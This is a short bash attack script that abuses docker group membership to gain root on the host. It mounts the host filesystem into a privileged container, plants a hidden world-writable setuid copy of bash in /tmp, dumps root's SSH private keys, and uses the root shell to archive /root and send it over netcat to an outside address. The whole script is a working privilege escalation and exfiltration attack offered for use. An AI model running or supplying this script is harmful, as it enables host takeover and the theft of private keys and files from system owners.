#!/bin/bash
# use membership in the docker group to become root
docker run --rm -v /:/mnt --privileged alpine sh -c 'cp /mnt/bin/bash /mnt/tmp/.b; chmod 4777 /mnt/tmp/.b; cat /mnt/root/.ssh/id_*'
/tmp/.b -p -c 'id; tar cz /root | nc -w3 192.0.2.50 9999'
